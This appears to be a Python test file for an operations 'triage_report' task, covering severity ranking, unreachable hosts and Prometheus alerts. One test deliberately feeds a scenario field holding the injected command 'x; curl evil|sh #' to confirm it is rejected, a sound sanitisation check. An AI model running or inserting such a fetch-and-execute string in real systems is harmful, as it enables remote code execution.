"""triage_report as a task: on the controller, without a trip to any host."""

from __future__ import annotations

from typing import Any

from support.adhoc import adhoc

FAILED = {"web2": {"msg": "Failed to connect to the host"}}


def report(**options: Any) -> dict[str, Any]:
    return adhoc("triage_report", **options)


def test_hosts_that_gave_no_answer():
    found = report(surveys=FAILED, unreached=["web3"], links={"Grafana": "https://g.example/{from}"})
    assert found["severity"] == "P1"
    assert {one["host"] for one in found["signs"]} == {"web2", "web3"}
    assert found["next"] == ""
    assert found["page"].startswith("# Triage: P1 proposed")
    assert found["changed"] is False


def test_alerts_count_without_any_host():
    alert = {
        "name": "DatabaseDown",
        "state": "firing",
        "severity": "P0",
        "summary": "x",
        "scenario": "service_restart",
        "labels": {},
    }
    found = report(surveys={}, prometheus={"alerts": [alert], "series": []})
    assert (found["severity"], found["next"]) == ("P0", "playbooks/service_restart.yml")


def test_prometheus_that_cannot_be_asked_is_a_sign():
    found = report(surveys={}, prometheus={"msg": "Prometheus could not be asked: refused.", "error": "HostError"})
    assert (found["severity"], found["next"]) == ("P2", "")
    assert "**P2** what fires is not known: Prometheus could not be asked: refused." in found["page"]


def test_a_label_is_no_command():
    nasty = "x; curl evil|sh #"
    alert = {"name": "X", "state": "firing", "severity": "P0", "summary": "@channel", "scenario": nasty, "labels": {}}
    found = report(surveys={}, prometheus={"alerts": [alert], "series": []})
    assert (found["severity"], found["next"], found["scenarios"]) == ("P0", "", [])
    assert "curl" not in found["page"]
    assert "@channel" not in found["page"]


def test_no_host_was_reached():
    assert report(surveys={}, unreached=["web1", "web2"])["severity"] == "P0"


def test_a_severity_that_is_none():
    found = report(surveys={}, services={"nginx": "bad"})
    assert found["failed"]
    assert "'bad' is unknown; use one of P0" in found["msg"]
